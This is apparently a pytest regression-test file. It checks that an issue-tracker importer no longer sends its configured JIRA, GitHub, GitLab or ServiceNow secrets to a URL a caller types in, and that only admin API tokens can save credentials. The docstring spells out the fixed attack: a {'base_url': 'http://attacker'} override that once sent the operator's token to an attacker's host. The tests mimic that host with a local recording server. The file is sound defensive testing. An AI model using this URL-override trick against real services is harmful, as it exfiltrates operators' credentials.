"""Secrets go only to the server they were configured with (regression: credential exfiltration by URL override).

Before the fix, a caller who typed only a URL got the server's own token attached: `{"base_url": "http://attacker"}`
to JIRA preview sent `Authorization: Basic <the server's email:token>` there, and a non-admin API token with
`save_credentials: true` replaced the saved settings, so later CLI runs and schedules sent the operator's token to
the attacker's host. Each source is driven against its fake (the real server) and a recording server (the
attacker), through the same core the console, the CLI and the HTTP API call.
"""
from __future__ import annotations

import base64
import contextlib
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from importers.errors import SourceError
from jobs import api
from store import api_tokens, credentials
from tests.fakes.github import GitHubFake
from tests.fakes.gitlab import FakeGitLab
from tests.fakes.jira import FakeJira
from tests.fakes.servicenow import FakeServiceNow
from tests.helpers import asgi_post


class Recorder:
    """An attacker's host: records every request's headers and answers 401."""

    def __init__(self) -> None:
        self.headers: list[dict[str, str]] = []
        recorded = self.headers

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def _answer(self) -> None:
                recorded.append(dict(self.headers.items()))
                body = b'{"message": "Bad credentials"}'
                self.send_response(401)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_HEAD = _answer

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def saw(self, secret: str) -> bool:
        """True when any request carried `secret`, plainly or inside Basic authentication."""
        text = json.dumps(self.headers)
        decoded = []
        for headers in self.headers:
            for value in headers.values():
                scheme, _, blob = value.partition(" ")
                if scheme.lower() == "basic":
                    decoded.append(base64.b64decode(blob + "==").decode(errors="replace"))
        return secret in text or any(secret in d for d in decoded)

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def attacker():
    server = Recorder()
    yield server
    server.stop()


def _jira():
    fake = FakeJira(cloud=True, size=5).start()
    user, token = fake.credentials
    return fake, {"JIRA_BASE_URL": fake.url, "JIRA_USER_EMAIL": user, "JIRA_API_TOKEN": token}, "base_url", token


def _github():
    fake = GitHubFake().start()
    return fake, {"GITHUB_API_URL": fake.url, "GITHUB_TOKEN": fake.token}, "api_url", fake.token


def _gitlab():
    fake = FakeGitLab().start()
    return fake, {"GITLAB_URL": fake.url, "GITLAB_TOKEN": fake.token}, "url", fake.token


def _servicenow():
    fake = FakeServiceNow().start()
    return (fake, {"SERVICENOW_INSTANCE": fake.url, "SERVICENOW_USERNAME": fake.username,
                   "SERVICENOW_PASSWORD": fake.password}, "instance", fake.password)


SOURCES = {"jira": _jira, "github": _github, "gitlab": _gitlab, "servicenow": _servicenow}


@pytest.fixture(params=sorted(SOURCES))
def server_configured(request, monkeypatch):
    """(source, fake, the URL setting's name, the server's secret), with the server's settings in the environment."""
    fake, env, url_setting, secret = SOURCES[request.param]()
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    yield request.param, fake, url_setting, secret
    fake.stop()


@pytest.mark.parametrize("keyed", [True, False], ids=["job-carries-secrets", "no-key-worker-environment"])
def test_a_typed_url_never_gets_the_servers_secret(server_configured, attacker, run_worker, monkeypatch, keyed):
    source, fake, url_setting, secret = server_configured
    if not keyed:  # without CREDENTIAL_ENCRYPTION_KEY the worker takes environment secrets from its own environment
        monkeypatch.delenv("CREDENTIAL_ENCRYPTION_KEY")
    assert api.check(source)  # the server's own settings reach its own server
    for call in (lambda: api.check(source, {url_setting: attacker.url}),
                 lambda: api.preview(source, None, {url_setting: attacker.url}),
                 lambda: api.start_import(source, ["X"], config={url_setting: attacker.url}),
                 run_worker):
        with contextlib.suppress(SourceError):  # refused for want of a secret, or the attacker's 401
            call()
    assert not attacker.saw(secret), attacker.headers


def test_the_same_server_spelt_otherwise_keeps_the_servers_secret(server_configured):
    source, fake, url_setting, _ = server_configured
    spelt = fake.url.replace("http://127.0.0.1", "HTTP://127.0.0.1") + "/"
    assert api.check(source, {url_setting: spelt})


def test_saved_settings_naming_another_host_get_no_environment_secret(server_configured, attacker, engine,
                                                                      run_worker):
    source, _, url_setting, secret = server_configured
    credentials.put(engine, source, {url_setting: attacker.url}, saved=True)  # as the attack saved them
    for call in (lambda: api.check(source), lambda: api.start_import(source, ["X"]), run_worker):
        with contextlib.suppress(SourceError):  # a CLI run or a schedule, with nothing typed
            call()
    assert not attacker.saw(secret)


def test_the_callers_own_secret_goes_to_the_url_they_typed(monkeypatch, attacker):
    monkeypatch.setenv("GITHUB_TOKEN", "server-token")
    with pytest.raises(SourceError):
        api.check("github", {"api_url": attacker.url, "token": "callers-own-token"})
    assert attacker.saw("callers-own-token") and not attacker.saw("server-token")


def test_only_an_admin_token_may_save_credentials(engine, monkeypatch, attacker):
    github = GitHubFake().start()
    try:
        monkeypatch.setenv("GITHUB_TOKEN", github.token)
        monkeypatch.setenv("GITHUB_API_URL", github.url)
        token = api_tokens.create(engine, "ci-bot", created_by="alice")
        body = {"config": {"api_url": attacker.url}, "save_credentials": True}
        for path, where in (("/import/github/preview", {"project": "X"}),
                            ("/import/github/execute", {"projects": ["X"]})):
            status, answer = asgi_post(path, {**body, **where}, token)
            assert status == 403 and "only an admin may save credentials" in answer["error"], answer
        assert credentials.saved_for(engine, "github") is None and not attacker.headers
        monkeypatch.setenv("CONSOLE_ADMINS", "api:ci-bot")
        status, answer = asgi_post("/import/github/preview", {"project": "acme/api",
                                                          "config": {"api_url": github.url},
                                                          "save_credentials": True}, token)
        assert status == 200, answer
        assert credentials.saved_for(engine, "github") is not None
    finally:
        github.stop()
